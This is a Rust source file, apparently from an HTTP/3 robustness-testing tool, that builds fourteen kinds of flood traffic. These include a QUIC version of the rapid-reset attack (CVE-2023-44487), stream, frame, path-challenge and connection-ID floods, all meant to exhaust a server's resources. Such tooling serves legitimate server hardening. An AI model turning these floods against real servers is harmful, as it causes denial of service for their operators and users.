//! The HTTP/3 floods: pieces of streams that cost the server more than the client.

use super::{Flood, FloodFrames, filler_line, kind, nothing};
use dialogue::http3::packets;
use dialogue::http3::write::{self, PREFIX};
use dialogue::http3::{
    CANCELLED, CONTROL_STREAM, DATA, DECODER_STREAM, ENCODER_STREAM, HEADERS, MAX_PUSH_ID,
};
use torture::case::FloodKind;

/// The first unidirectional stream that the initial frames leave free (RFC 9000 section 2.1).
const FIRST_FREE: u64 = DECODER_STREAM + 4;
/// A reserved stream or frame type, to test unknown types (RFC 9114 sections 6.2.3 and 7.2.8).
const RESERVED: u64 = 0x21;
/// A section that is blocked on the first entry of a dynamic table, which it references (RFC 9204
/// section 4.5).
const BLOCKED: [u8; 3] = [2, 0, 0x80];
/// Number of fields in a large section that servers still accept.
const FIELDS: u32 = 100;

/// Number of requests between a request and its cancellation, so that both are in different
/// datagrams.
const LATER: u32 = 100;

fn stream(number: u32) -> u64 {
    4 * u64::from(number)
}

pub(super) const KINDS: [FloodFrames; 14] = [
    // CVE-2023-44487 over QUIC
    kind(FloodKind::ResetStreams, nothing, |flood, number| {
        let mut pieces = write::stream_bytes(stream(number), flood.block, true);
        // QUIC does not send streams that are canceled at once
        if let Some(before) = number.checked_sub(LATER) {
            pieces.extend(write::reset(stream(before), CANCELLED));
            pieces.extend(write::stop(stream(before), CANCELLED));
        }
        pieces
    }),
    kind(FloodKind::OpenStreams, nothing, |flood, number| {
        write::stream_bytes(stream(number), flood.block, false)
    }),
    kind(FloodKind::BlockedSections, nothing, |_, number| {
        write::stream_bytes(stream(number), &write::frame(HEADERS, &BLOCKED), true)
    }),
    kind(FloodKind::UnknownFrames, nothing, |_, _| {
        write::stream_bytes(CONTROL_STREAM, &write::frame(RESERVED, b"loadstone"), false)
    }),
    kind(FloodKind::PushLimits, nothing, |_, number| {
        let mut most = Vec::new();
        write::varint(u64::from(number), &mut most);
        write::stream_bytes(CONTROL_STREAM, &write::frame(MAX_PUSH_ID, &most), false)
    }),
    kind(FloodKind::ReservedStreams, nothing, |_, number| {
        write::stream_bytes(FIRST_FREE + stream(number), &[RESERVED as u8], true)
    }),
    kind(
        FloodKind::EmptyDataFrames,
        |flood, _| write::stream_bytes(0, flood.block, false),
        |_, _| write::stream_bytes(0, &write::frame(DATA, &[]), false),
    ),
    // a table of zero bytes may be set to zero bytes repeatedly (RFC 9204 section 4.3.1)
    kind(FloodKind::TableCapacities, nothing, |_, _| {
        write::stream_bytes(ENCODER_STREAM, &[0b0010_0000], false)
    }),
    kind(FloodKind::StreamCancellations, nothing, |_, number| {
        write::stream_bytes(DECODER_STREAM, &[0b0100_0000 | (number % 0x3f) as u8], false)
    }),
    kind(FloodKind::LargeSections, nothing, |flood, number| {
        let mut section = flood.section().to_vec();
        (0..FIELDS).for_each(|row| filler_line(number * FIELDS + row, &mut section));
        write::stream_bytes(stream(number), &write::frame(HEADERS, &section), true)
    }),
    kind(FloodKind::PathChallenges, nothing, |_, number| {
        let asked = (u64::from(number) | 1 << 63).to_be_bytes();
        packet(&[&[PATH_CHALLENGE], &asked[..]].concat())
    }),
    kind(FloodKind::ConnectionIds, nothing, |_, number| {
        // each ID has its own number and retires all previous ones
        let mut frame = vec![NEW_CONNECTION_ID];
        let sequence = u64::from(number) + 1;
        write::varint(sequence, &mut frame);
        write::varint(sequence, &mut frame);
        frame.push(8);
        frame.extend_from_slice(&(sequence | 1 << 63).to_be_bytes());
        frame.extend_from_slice(&[number as u8; 16]);
        packet(&frame)
    }),
    kind(
        FloodKind::BlockedStreams,
        |flood, _| write::stream_bytes(0, flood.block, false),
        |_, number| packet(&frame_of(STREAM_DATA_BLOCKED, &[0, u64::from(number)])),
    ),
    kind(FloodKind::BareResets, nothing, |_, number| {
        packet(&frame_of(RESET_STREAM, &[stream(number), CANCELLED, 0]))
    }),
];

/// Types of QUIC frames (RFC 9000 section 19).
const RESET_STREAM: u8 = 0x04;
const STREAM_DATA_BLOCKED: u8 = 0x15;
const NEW_CONNECTION_ID: u8 = 0x18;
const PATH_CHALLENGE: u8 = 0x1a;

fn frame_of(kind: u8, numbers: &[u64]) -> Vec<u8> {
    let mut frame = vec![kind];
    numbers.iter().for_each(|number| write::varint(*number, &mut frame));
    frame
}

/// Returns a packet with this frame, unchanged.
fn packet(frame: &[u8]) -> Vec<u8> {
    packets::packet("none", frame).unwrap_or_default()
}

impl Flood<'_> {
    /// Returns the field section of the plain request, without the frame header.
    fn section(&self) -> &[u8] {
        let begin = self.block.windows(PREFIX.len()).position(|two| two == PREFIX);
        self.block.get(begin.unwrap_or_default()..).unwrap_or_default()
    }
}
